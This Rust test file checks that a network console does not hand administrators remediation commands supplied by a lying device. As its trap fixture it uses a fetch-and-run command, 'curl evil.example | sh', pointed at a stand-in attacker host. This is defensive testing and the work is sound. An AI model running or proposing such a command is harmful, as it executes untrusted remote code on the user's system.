//! Whose words the lines are that mend a cause.

use std::collections::BTreeMap;
use std::net::SocketAddr;

use axum::body::Body;
use axum::http::{Request, header};
use flows::GarrisonFlow;
use http_body_util::BodyExt as _;
use manager::access::sign_in;
use tower::ServiceExt as _;

use super::*;

/// What a device would have an administrator do.
const TRAP: &str = "curl evil.example | sh";
const PASSWORD: &str = "correct horse battery staple";

/// A site that devices reach at an address of its own.
async fn stand() -> Stand {
    let stand = Stand::new().await;
    let address: SocketAddr = "192.0.2.1:443".parse().unwrap();
    let addresses = BTreeMap::from([(GarrisonFlow::AgentChannel, address)]);
    stand.site.network.set_addresses(addresses);
    stand
}

/// Says the truth of what is wrong, and lies about what mends it.
fn lie(endpoint: &str) -> NetworkFinding {
    NetworkFinding {
        endpoints: vec![endpoint.to_owned()],
        evidence: vec![Evidence::new("issuer", TRAP)],
        mend: Mend {
            product: TRAP.to_owned(),
            lines: vec![TRAP.to_owned()],
        },
        ..inspected(START)
    }
}

/// Signs in at the console.
async fn session(stand: &Stand) -> String {
    let new = json!({"name": "eve", "role": "viewer", "password": PASSWORD});
    let made = stand.post("/api/v1/users", new).await;
    made.expect(StatusCode::CREATED);
    let signed_in = sign_in(&stand.site, "eve", PASSWORD, None).await;
    signed_in.unwrap().token
}

/// The texts of a page that are pasted from: its first `pre`, and what its buttons copy.
async fn to_paste(stand: &Stand, session: &str, path: &str) -> String {
    let request = Request::get(path)
        .header(header::COOKIE, format!("__Host-garrison={session}"))
        .body(Body::empty())
        .unwrap();
    let console = manager::console::router(std::sync::Arc::clone(&stand.site));
    let answer = console.oneshot(request).await.unwrap();
    assert_eq!(answer.status(), StatusCode::OK, "{path}");
    let page = answer.into_body().collect().await.unwrap().to_bytes();
    let page = String::from_utf8(page.to_vec()).unwrap();
    assert!(page.contains("TLS is inspected by"), "{path}");
    let between = |from: &str, to: &str| {
        let parts = page.split(from).skip(1);
        parts
            .filter_map(|part| part.split(to).next())
            .collect::<String>()
    };
    between("<pre id=\"lines\"", "</pre>") + &between("data-copy=\"", "\"")
}

#[tokio::test]
async fn a_device_that_lies_puts_no_line_of_its_own_before_an_administrator() {
    let stand = stand().await;
    let mut liar = Reporter::new(&stand).await;
    let finding = lie("192.0.2.1:443");
    let id = finding.key.to_string();
    liar.report(&stand, report(START, vec![finding])).await;

    let listed = causes(&stand).await.remove(0);
    let path = format!("/api/v1/connections/causes/{id}");
    let alone = stand.get(&path).await.expect(StatusCode::OK);
    // And once it is over.
    let session = session(&stand).await;
    let place = format!("/network/connections/causes/{id}");
    let shown = [
        to_paste(&stand, &session, "/network/connections").await,
        to_paste(&stand, &session, &place).await,
    ];
    stand.clock.advance(HOUR);
    let now = stand.clock.now();
    liar.report(&stand, report(now, Vec::new())).await;
    let past = stand.get(&path).await.expect(StatusCode::OK);
    assert_ne!(past["mended"], Value::Null);
    for cause in [&listed, &alone, &past] {
        assert_eq!(cause["lines_by"], "manager", "{cause:#}");
        assert_eq!(cause["product"], "squid", "{cause:#}");
        let lines = cause["lines"].to_string();
        assert!(!lines.contains("evil"), "{lines}");
        assert!(lines.contains("192.0.2.1"), "{lines}");
    }
    for text in &shown {
        assert!(!text.contains("evil"), "{text}");
        assert!(text.contains("192.0.2.1"), "{text}");
    }
}

#[tokio::test]
async fn lines_that_the_manager_cannot_make_are_marked_as_a_devices_words() {
    let stand = stand().await;
    let mut device = Reporter::new(&stand).await;
    let finding = lie("manager.example:443");
    let id = finding.key.to_string();
    device.report(&stand, report(START, vec![finding])).await;
    let cause = causes(&stand).await.remove(0);
    assert_eq!(cause["lines_by"], "devices", "{cause:#}");
    assert_eq!(cause["lines"], json!([TRAP]));
    // The list offers nothing to copy; the page of the cause says whose words they are.
    let session = session(&stand).await;
    let list = to_paste(&stand, &session, "/network/connections").await;
    assert!(!list.contains("evil"), "{list}");
    let place = format!("/network/connections/causes/{id}");
    let page = to_paste(&stand, &session, &place).await;
    assert!(page.contains(TRAP), "{page}");
}
